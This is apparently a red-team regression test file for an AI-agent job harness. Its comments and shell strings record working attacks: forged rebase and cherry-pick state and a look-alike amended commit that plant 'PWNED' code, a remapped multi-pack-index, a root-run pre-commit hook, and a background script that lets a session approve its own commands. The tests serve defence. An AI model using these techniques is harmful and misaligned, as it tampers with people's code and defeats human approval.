/**
 * Adversary round 30: attacks on adv29 (3d99f71), as root, in real sessions of the unit harness (the two approval ones
 * against a dev server, a worker and the scripted model server of their own). Each test asserts the safe behaviour and
 * is skipped while its kind is open (the OPEN_* flags below); each was run un-skipped on 3d99f71 and failed as written
 * below, at its safety assertion (load average 7 to 10 on 2 shared cores).
 *
 * Kind 6 (git files the person's host git obeys), with kind 5: the state of an operation in progress. Steps: the
 * person's repository holds run.sh (`echo hello`, committed as "run.sh"); a command writes a commit that looks like
 * HEAD (same message, author, committer, raw dates, parent) whose run.sh is the session's (`hash-object -w`,
 * `mktree`, `commit-tree`), and leaves `.git/rebase-merge/` (head-name `refs/heads/main`, orig-head that commit, onto,
 * interactive, a one-line todo), or `.git/sequencer/` (head that commit, abort-safety HEAD) with CHERRY_PICK_HEAD.
 * The person's `git status` shows a rebase (or cherry-pick) in progress, the state a model's own `git rebase` leaves,
 * and the person aborts it. OBSERVED (each run): nothing named in the result or at close; after `git rebase --abort`
 * (or `git cherry-pick --abort`) on the host, main is the session's commit, `git status` is clean, `git log` reads as
 * before but for the id, and run.sh holds `echo PWNED-by-session`. Why: git-guard.ts `isGitState` keeps
 * `rebase-merge/`, `rebase-apply/`, `sequencer/` and `*_HEAD` writable (the session's git needs them) and no audit
 * looks at what is left there; an abort resets the branch to the commit those files name. The same kind (plain git):
 * `ORIG_HEAD` (the undo of a rebase), `BISECT_START` holding an id (`git bisect reset` checks it out), an `exec` line
 * of the todo (run as root by `git rebase --continue`). Fix for the kind: at each audit and close, name (or move to the
 * quarantine) the state of an operation in progress the session made or changed (rebase-merge, rebase-apply,
 * sequencer, BISECT_*, MERGE_HEAD, CHERRY_PICK_HEAD, REVERT_HEAD, ORIG_HEAD), saying which commit an abort resets to.
 *
 * Kind 5 (what the person reads is not what is there): the person's unpushed HEAD commit made again at the root.
 * Steps: a command writes run.sh, `git add`s it and runs `git commit --amend --no-edit` with GIT_COMMITTER_NAME, _EMAIL
 * and _DATE from `git log -1`. OBSERVED (load 8.8): nothing named; the person's `git status` is clean and `git log
 * --format='%an %ae %ad %cn %ce %cd %s'` is byte for byte what it was; run.sh holds the session's line, and the review
 * docs/security.md asks for (`git status`, `git log origin/main..main`) shows the person's own commit. Why:
 * git-index-audit.ts compares a NESTED repository with its HEAD's tree at start ("staged or committed by the
 * session"), the root only with its index and cache-tree. The session's visible commit on top of a look-alike parent
 * (the person's `git reset --hard HEAD~1` lands on it) is the same kind. Fix: name, at each audit and close, what
 * differs between the root HEAD's tree at start and now (and that HEAD's commit changed), as the nested audit does.
 *
 * Kind 5: a new multi-pack-index over a pack there at start. Steps: the person's repository (run.sh `echo
 * vulnerable-v1`, then a commit "fix run.sh" to `echo fixed-v2`, then `git gc`: a clone's one pack); a command runs
 * `git multi-pack-index write` and fixtures/midx-remap.py, which gives HEAD:run.sh's entry the pack offset of
 * HEAD~1:run.sh. OBSERVED (load 8.0): nothing named; `git status` clean; the person's `git checkout -- run.sh` writes
 * `echo vulnerable-v1` (on the host `git show HEAD:run.sh` prints it and `git diff HEAD~1` is empty: the fix reads as
 * no change). Not round 29's new pack: no pack, idx, loose object or alternates line is added or touched. Why: git
 * looks objects up through a multi-pack-index first (core.multiPackIndex is on by default), reads what lies at the
 * offset and hashes nothing. Fix for the kind: every file the session adds or changes under `objects/pack` and
 * `objects/info` named or moved at the audit (or verified: `git multi-pack-index verify`, `git verify-pack`).
 *
 * Kind 7 (without the sandbox): the person's own repository at the workspace's root in mode `none`. Steps: a root
 * worker, `sandbox: 'none'`, a root-owned repository (0755); bash runs as agent-jobs and writes an executable
 * `.git/hooks/pre-commit`. OBSERVED (load 8.8): nothing named (session.ts gives mode `none` an empty git guard, and so
 * no audit); the person's `git commit` runs it as root. The worker's ACL grant (`rwX` on the whole workspace) is what
 * lets agent-jobs write `.git/hooks` and `.git/config`. security.md's row on your own repository names bwrap as its
 * layer and the mode-`none` row says only that what needs a namespace does not hold. Fix: leave `.git` out of the
 * grant in mode `none` (or deny writes to its config, hooks, info, config.worktree), run the audit without the
 * binds, or refuse `--workdir` on a repository there; at least say it where mode `none` is chosen.
 *
 * Kind 2 (a run approving itself), and the "Encryption" section's promise that no hash of a command is published: a
 * client with the workflow id and no codec keys sends the `decide` Update with a guessed tool_use id and is told
 * "tool_use toolu_guess is not pending; toolu_secret_7c1d is"; with that id and a wrong hash, "commandSha256 000… is
 * not the hash of the pending command (d914c82a…)", both in plaintext (an Update's rejection is a failure message,
 * which the codec does not encrypt). OBSERVED (load 7.5): a third Update with both was applied (the codec's decode lets
 * an unencrypted payload through) and the command ran. A bwrap session cannot reach the frontend; a mode-`none`
 * session shares the host's network (a dev server on 127.0.0.1) and has AGENT_JOBS_WORKFLOW_ID in its environment
 * (reasoned, not run end to end). Why: approval.ts `decisionProblem`, codec.ts `decode`. Fix: reasons that name
 * neither the pending id nor its hash; a decision in an unencrypted payload refused when the worker holds keys.
 *
 * Kind 2 with kind 7, end to end: a run in mode `none` approves its own commands. Steps: a root worker with
 * AGENT_JOBS_SANDBOX=none, codec keys on, a policy run; the person approves one command, which leaves a node job
 * (nohup). The job has no key: it finds the dev server's port in `ps -eo args` (no pid namespace; the session has
 * AGENT_JOBS_WORKFLOW_ID, not the address), `describe`s its run on each candidate, and loops the three Updates above.
 * The model's next command `touch pwned.txt` waits; the person never decides. OBSERVED (load 12.8): decided
 * `approved` by "a person", run, pwned.txt made. Fix: the keyless fix above; for mode `none` a loopback-only network
 * namespace where `unshare` works, or no policy runs without a sandbox against a server with no authentication.
 *
 * Tried, held: every code point of the BMP, planes 1-2, tags and the starts of the private-use planes that is a
 * control, format, separator, private-use, unassigned, non-ASCII space or default-ignorable character is escaped by
 * displayCommand and safeText (the whole range 0x80-0x10FFFF by hand: none shown); no socket file anywhere in the
 * sandbox's view, `/run` and `/var/run` empty, the host's `/dev/shm` covered; the FIFO folder is not listable
 * (`drwx--x---`) and the names hold 64 random bits, so no job pre-opens a later command's FIFO; `git cherry-pick
 * --abort` with an abort-safety other than HEAD (git refuses to move HEAD); the plain builtins a rule may run (`kill
 * -l`, `caller`, `dirs +N`, `printf` numbers, `test` integers) read numbers with `legal_number`, never arithmetic
 * (read in bash 5.2's sources as the table says); slirp4netns runs without IPv6 and its API socket, the gateway
 * refused (read); the worker never reads its end of bash's control socket (read); a restore over the checkpoint caps
 * refuses whole rather than record a truncated "before" (read).
 */
import { execFileSync } from 'node:child_process';
import { Client } from '@temporalio/client';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { decideUpdate } from '../../../src/contract';
import { startDevServerOnFreePort, type DevServer } from '../../../src/dev/devserver';
import { sharedBlobStore, sharedCodecKeys } from '../../../src/dev/testing/worker-process';
import { displayCommand, safeText } from '../../../src/shared/display';
import { TestBed } from '../../integration/harness';
import { asks, end } from '../../integration/steering-helpers';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
import { hostBash, personsRepo, plant, ran } from './persons-repo';

const OPEN_REBASE_STATE = false;
const OPEN_AMENDED_HEAD = false;
const OPEN_MIDX_REMAP = false;
const OPEN_NONE_ROOT_HOOK = false;
const OPEN_KEYLESS_DECIDE = false;
const OPEN_NONE_SELF_APPROVAL = false;

afterEach(closeSessions);
afterAll(removeTempDirs);

/** git as the person (root) in `cwd`: its output. */
const gitIn = (cwd: string, ...a: string[]): string =>
  execFileSync('git', ['-C', cwd, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8', stdio: 'pipe' });

/**
 * Shell text: in the repository at the current folder, a commit that looks like HEAD (same message, author, committer,
 * raw dates and parent) whose run.sh is the session's, left as the state of an operation in progress that an abort
 * resets `main` to: an interactive rebase whose `orig-head` it is (`git rebase --abort`), or a cherry-pick whose
 * `sequencer/head` it is, with `abort-safety` HEAD (`git cherry-pick --abort`).
 */
const inProgress = (op: 'rebase' | 'cherry-pick'): string =>
  `evil=$(printf 'echo PWNED-by-session\\n' | git hash-object -w --stdin) && ` +
  `tree=$(printf '100644 blob %s\\trun.sh\\n100644 blob %s\\tbuild.sh\\n' "$evil" "$(git rev-parse HEAD:build.sh)" | git mktree) && ` +
  `c=$(GIT_AUTHOR_NAME="$(git log -1 --format=%an)" GIT_AUTHOR_EMAIL="$(git log -1 --format=%ae)" GIT_AUTHOR_DATE="$(git log -1 --format=%ad --date=raw)" ` +
  `GIT_COMMITTER_NAME="$(git log -1 --format=%cn)" GIT_COMMITTER_EMAIL="$(git log -1 --format=%ce)" GIT_COMMITTER_DATE="$(git log -1 --format=%cd --date=raw)" ` +
  `git commit-tree "$tree" -p HEAD~1 -m "$(git log -1 --format=%B)") && ` +
  (op === 'rebase'
    ? `mkdir .git/rebase-merge && echo refs/heads/main > .git/rebase-merge/head-name && echo "$c" > .git/rebase-merge/orig-head && ` +
      `git rev-parse HEAD~1 > .git/rebase-merge/onto && : > .git/rebase-merge/interactive && ` +
      `printf 'pick %s run.sh\\n' "$(git rev-parse --short HEAD)" > .git/rebase-merge/git-rebase-todo && : > .git/rebase-merge/done && ` +
      `echo 1 > .git/rebase-merge/end && echo 0 > .git/rebase-merge/msgnum`
    : `mkdir .git/sequencer && echo "$c" > .git/sequencer/head && git rev-parse HEAD > .git/sequencer/abort-safety && ` +
      `printf 'pick %s run.sh\\n' "$(git rev-parse HEAD)" > .git/sequencer/todo && git rev-parse HEAD > .git/CHERRY_PICK_HEAD`) +
  ` && echo made-it`;

describe("kind 6: the state of an operation in progress, which the person's git obeys", () => {
  const t = OPEN_REBASE_STATE ? test.skip : test;
  for (const op of ['rebase', 'cherry-pick'] as const)
    t(`a ${op} the session left in progress: the person's git ${op} --abort keeps their main, or the state is named`, async () => {
      if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
      const { ws, git } = personsRepo();
      fs.writeFileSync(path.join(ws, 'run.sh'), 'echo hello\n');
      git('add', 'run.sh');
      git('commit', '-qm', 'run.sh');
      const head = gitIn(ws, 'rev-parse', 'HEAD').trim();
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(inProgress(op));
      expect(r.output).toContain('made-it');
      await s.close();
      const atClose = s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}`).join('\n');
      const named = /rebase-merge|sequencer|CHERRY_PICK_HEAD/.test(r.output.replace(/made-it/g, '') + atClose);
      // The person finds an operation in progress they did not start, and aborts it.
      hostBash(ws, `git ${op} --abort`);
      const after = gitIn(ws, 'rev-parse', 'HEAD').trim();
      const runSh = fs.readFileSync(path.join(ws, 'run.sh'), 'utf8');
      expect(named || (after === head && !runSh.includes('PWNED'))).toBe(true);
    });
});

/**
 * Shell text: the person's HEAD commit made again (same message, author, committer and raw dates, same parent) with
 * the session's run.sh, and the branch moved to it: `git commit --amend` whose only trace is the commit's id.
 */
const AMENDED_HEAD =
  `echo 'echo PWNED-by-session' > run.sh && git add run.sh && ` +
  `GIT_COMMITTER_NAME="$(git log -1 --format=%cn)" GIT_COMMITTER_EMAIL="$(git log -1 --format=%ce)" GIT_COMMITTER_DATE="$(git log -1 --format=%cd --date=raw)" ` +
  `git -c user.name=x -c user.email=x@x commit -q --amend --no-edit && git status --porcelain && echo made-it`;

describe("kind 5: the person's own unpushed commit made again by the session at the workspace's root", () => {
  const t = OPEN_AMENDED_HEAD ? test.skip : test;
  t("a look-alike of HEAD with the session's run.sh: named, or the person's git status and log show a change", async () => {
    if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
    const { ws, git } = personsRepo();
    fs.writeFileSync(path.join(ws, 'run.sh'), 'echo hello\n');
    git('add', 'run.sh');
    git('commit', '-qm', 'run.sh');
    const log = (): string => gitIn(ws, 'log', '--format=%an %ae %ad %cn %ce %cd %s');
    const before = log();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(AMENDED_HEAD);
    expect(r.output).toContain('made-it');
    await s.close();
    const atClose = s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}`).join('\n');
    const named = /run\.sh|HEAD|commit/.test(r.output.replace(/made-it/g, '') + atClose);
    const runSh = fs.readFileSync(path.join(ws, 'run.sh'), 'utf8');
    const shown = gitIn(ws, 'status', '--porcelain') !== '' || log() !== before;
    expect(named || shown || !runSh.includes('PWNED')).toBe(true);
  });
});

describe('kind 5: a new multi-pack-index that points an object of HEAD at another object of a pack there at start', () => {
  const t = OPEN_MIDX_REMAP ? test.skip : test;
  t(
    "the fixed run.sh of HEAD read as its old version: the person's checkout writes the reviewed run.sh, or the index is named",
    async () => {
      if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
      const { ws, git } = personsRepo();
      fs.writeFileSync(path.join(ws, 'run.sh'), 'echo vulnerable-v1\n');
      git('add', 'run.sh');
      git('commit', '-qm', 'run.sh');
      fs.writeFileSync(path.join(ws, 'run.sh'), 'echo fixed-v2\n');
      git('commit', '-qam', 'fix run.sh');
      // A clone's repository: its objects in a pack.
      git('gc', '-q');
      fs.copyFileSync(path.join(__dirname, 'fixtures', 'midx-remap.py'), path.join(ws, 'midx-remap.py'));
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(
        `git multi-pack-index write && python3 midx-remap.py .git/objects/pack/multi-pack-index ` +
          `$(git rev-parse HEAD:run.sh) $(git rev-parse HEAD~1:run.sh) && rm midx-remap.py && git status --porcelain && echo made-it`,
      );
      expect(r.output).toContain('made-it');
      await s.close();
      const atClose = s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}`).join('\n');
      const named = /multi-pack-index|objects\/pack/.test(r.output.replace(/made-it/g, '') + atClose);
      // Control of the reading: the person's git status is clean.
      expect(gitIn(ws, 'status', '--porcelain')).toBe('');
      fs.rmSync(path.join(ws, 'run.sh'));
      gitIn(ws, 'checkout', '--', 'run.sh');
      const checkedOut = fs.readFileSync(path.join(ws, 'run.sh'), 'utf8');
      expect(named || checkedOut === 'echo fixed-v2\n').toBe(true);
    },
  );
});

describe("kind 7: without the sandbox, the person's own repository at the workspace's root", () => {
  const t = OPEN_NONE_ROOT_HOOK ? test.skip : test;
  t("a pre-commit hook written by a session in mode none: the person's commit does not run it, or it is named", async () => {
    if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
    const { ws, marker } = personsRepo();
    // A repository's folder as git clone leaves it (the test's temporary folder is 0700, which mode none cannot enter).
    fs.chmodSync(ws, 0o755);
    const s = await startSession({ cwd: ws, workspace: ws, sandbox: 'none' });
    const r = await s.run(`id -un && ${plant(marker, '.git/hooks/pre-commit')} && echo made-it`);
    // Written, or refused since the fix (git-held.ts: no ACL entry of the session's on hooks/).
    expect(r.output).toMatch(/made-it|\.git\/hooks\/pre-commit: Permission denied/);
    // Control: bash is not root (the worker's ACL grant is what lets it write the person's .git).
    expect(r.output).not.toMatch(/^root$/m);
    await s.close();
    const atClose = s.gitFindingsAtClose.map((f) => `${f.path} ${f.why}`).join('\n');
    const named = /hooks/.test(r.output.replace(/made-it/g, '') + atClose);
    hostBash(ws, 'git -c user.name=p -c user.email=p@example.com commit -q --allow-empty -m two');
    expect(named || ran(marker) === 'not run').toBe(true);
  });
});

describe('kind 2: a client without the codec keys learns the pending tool_use and its hash from the decide Update', () => {
  const t = OPEN_KEYLESS_DECIDE ? test.skip : test;
  let server: DevServer | undefined;
  let bed: TestBed | undefined;
  afterAll(async () => {
    await bed?.close();
    await server?.stop();
  });
  t(
    "the rejections a keyless client gets name neither the pending tool_use id nor the pending command's sha256",
    async () => {
      // A codec keys file of this test's own: the workers and the harness's client encrypt with it, the attacker has none.
      sharedCodecKeys();
      sharedBlobStore();
      server = await startDevServerOnFreePort({ headless: true });
      bed = await TestBed.create({
        address: server.address,
        script: { responses: [asks(['toolu_secret_7c1d', 'echo hi > note.txt']), end('done')] },
      });
      const handle = await bed.start({ task: 'write the note', approval: 'policy' }, 'keyless-decide');
      const pending = await bed.pendingApproval(handle);
      expect(pending.toolUseId).toBe('toolu_secret_7c1d');
      // The attacker: the workflow id only (a session has it in AGENT_JOBS_WORKFLOW_ID), no keys; its payloads pass
      // through the workers' codec unencrypted.
      const keyless = new Client({ connection: bed.connection }).workflow.getHandle(handle.workflowId);
      const rejection = async (req: Record<string, unknown>): Promise<string> => {
        try {
          await keyless.executeUpdate(decideUpdate, { args: [req as never] });
          return 'applied';
        } catch (err) {
          const e = err as Error & { cause?: Error };
          return `${e.message} ${e.cause?.message ?? ''}`;
        }
      };
      const first = await rejection({ toolUseId: 'toolu_guess', approved: true, commandSha256: '0'.repeat(64), by: 'keyless' });
      const second = await rejection({ toolUseId: 'toolu_secret_7c1d', approved: true, commandSha256: '0'.repeat(64), by: 'keyless' });
      // The hash is of a short command: whoever hashes guesses reads it (docs/security.md, "Encryption": no hash is published).
      expect({ toolUseId: first.includes('toolu_secret_7c1d'), sha256: second.includes(pending.commandSha256) }).toEqual({
        toolUseId: false,
        sha256: false,
      });
    },
    180_000,
  );
});

/**
 * Shell text of the one command the person approves: it leaves a job that, with the run's workflow id from its
 * environment and no codec keys, learns each pending tool_use id and hash from the decide Update's rejections and
 * approves it (the Temporal client of this checkout's node_modules; the dev server's address from the environment).
 */
const SELF_APPROVER = [
  `cat > approver.js <<'EOF'`,
  `const { Connection, Client } = require(${JSON.stringify(require.resolve('@temporalio/client'))});`,
  `const { execSync } = require('child_process');`,
  `(async () => {`,
  // No pid namespace without the sandbox: the dev server's command line, with its port, is in ps.
  `  const ports = [...new Set([...execSync('ps -eo args').toString().matchAll(/start-dev --port (\\d+)/g)].map((m) => m[1]))];`,
  `  let h;`,
  `  for (const port of ports) {`,
  `    try {`,
  `      const connection = await Connection.connect({ address: '127.0.0.1:' + port, connectTimeout: 2000 });`,
  `      const c = new Client({ connection }).workflow.getHandle(process.env.AGENT_JOBS_WORKFLOW_ID);`,
  `      await c.describe();`,
  `      h = c;`,
  `      console.log('found the run on port', port);`,
  `      break;`,
  `    } catch {}`,
  `  }`,
  `  const ask = (req) => h.executeUpdate('decide', { args: [req] }).then(() => 'applied', (e) => String(e.message) + ' ' + String(e.cause && e.cause.message));`,
  `  for (let i = 0; i < 600; i++) {`,
  `    const id = /; (\\S+) is$/.exec(await ask({ toolUseId: 'x', approved: true, commandSha256: '0'.repeat(64), by: 'a person' }));`,
  `    if (id) {`,
  `      const sha = /\\(([0-9a-f]{64})\\)/.exec(await ask({ toolUseId: id[1], approved: true, commandSha256: '0'.repeat(64), by: 'a person' }));`,
  `      if (sha) console.log(id[1], await ask({ toolUseId: id[1], approved: true, commandSha256: sha[1], by: 'a person' }));`,
  `    }`,
  `    await new Promise((r) => setTimeout(r, 100));`,
  `  }`,
  `})().catch((e) => console.log('failed', String(e)));`,
  `EOF`,
  `nohup node approver.js > approver.log 2>&1 &`,
  `echo started`,
].join('\n');

describe('kind 2 with kind 7: a run in mode none approves its own commands', () => {
  const t = OPEN_NONE_SELF_APPROVAL ? test.skip : test;
  let server: DevServer | undefined;
  let bed: TestBed | undefined;
  afterAll(async () => {
    await bed?.close();
    await server?.stop();
  });
  t(
    'after the person approves one command, a later one the person never approves does not run',
    async () => {
      if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
      sharedCodecKeys();
      sharedBlobStore();
      server = await startDevServerOnFreePort({ headless: true });
      bed = await TestBed.create({
        address: server.address,
        workerEnv: { AGENT_JOBS_SANDBOX: 'none' },
        script: {
          responses: [asks(['toolu_setup', SELF_APPROVER]), asks(['toolu_later', 'touch pwned.txt']), end('done')],
        },
      });
      // Its folder as mkdtemp leaves it is 0700, which agent-jobs (mode none, no sandbox to bind it) cannot enter.
      fs.chmodSync(path.dirname(bed.workspaces), 0o755);
      const handle = await bed.start({ task: 'set up', approval: 'policy', approvalTimeout: '30s' }, 'none-self-approval');
      const first = await bed.pendingApproval(handle);
      expect(first.toolUseId).toBe('toolu_setup');
      await handle.executeUpdate(decideUpdate, {
        args: [
          {
            toolUseId: 'toolu_setup',
            approved: true,
            commandSha256: first.commandSha256,
            runId: first.runId,
            wait: first.wait,
            by: 'person',
          },
        ],
      });
      const result = await handle.result();
      expect(result.status).toBe('completed');
      // Control: the approved command ran.
      expect(bed.audit().map((a) => a.command)).toContain(SELF_APPROVER);
      const decisions = (await bed.status(handle)).decisions.map((d) => [d.toolUseId, d.approved, d.by ?? null]);
      expect({ ran: bed.audit().some((a) => a.command === 'touch pwned.txt'), decisions }).toEqual({
        ran: false,
        decisions: [
          ['toolu_setup', true, 'person'],
          ['toolu_later', false, null],
        ],
      });
    },
    240_000,
  );
});

describe('held: what a person reads of a command, and what a session can reach', () => {
  test('every control, format, separator, private-use, unassigned, non-ASCII space or default-ignorable code point is escaped in a command and in text', () => {
    const hidden = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cn}\p{Zs}\p{Default_Ignorable_Code_Point}]/u;
    const shown: string[] = [];
    // The BMP, planes 1 and 2, the tags and variation selectors of plane 14, and the starts of the private-use planes.
    const ranges: [number, number][] = [
      [0x80, 0x2ffff],
      [0xe0000, 0xe0fff],
      [0xf0000, 0xf00ff],
      [0x100000, 0x1000ff],
    ];
    for (const [from, to] of ranges)
      for (let cp = from; cp <= to; cp++) {
        if (cp >= 0xd800 && cp <= 0xdfff) continue;
        const ch = String.fromCodePoint(cp);
        if (!hidden.test(ch)) continue;
        if (displayCommand(`ls a${ch}b`).text.includes(ch) || safeText(`x${ch}y`, false).includes(ch) || safeText(`x${ch}y`).includes(ch))
          shown.push(`U+${cp.toString(16)}`);
      }
    expect(shown).toEqual([]);
  });

  test("a session finds no socket file to connect to, and cannot list the worker's FIFO folder to find a later command's FIFO", async () => {
    if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
    const ws = tempDir();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      `find / -path /proc -prune -o -type s -print 2>/dev/null; echo found-end; ` +
        `readlink /proc/self/fd/3 3>&1 >fifo.txt; f=$(cat fifo.txt); test -p "$f" && echo fifo-found; ` +
        `ls "$(dirname "$f")" >/dev/null 2>&1 && echo listed || echo not-listed`,
    );
    expect(r.output).toMatch(/^found-end$/m);
    expect(r.output.split('found-end')[0]!.trim()).toBe('');
    // Control: the command's own FIFO was found by its path, in that folder.
    expect(r.output).toContain('fifo-found');
    expect(r.output).toContain('not-listed');
  });
});
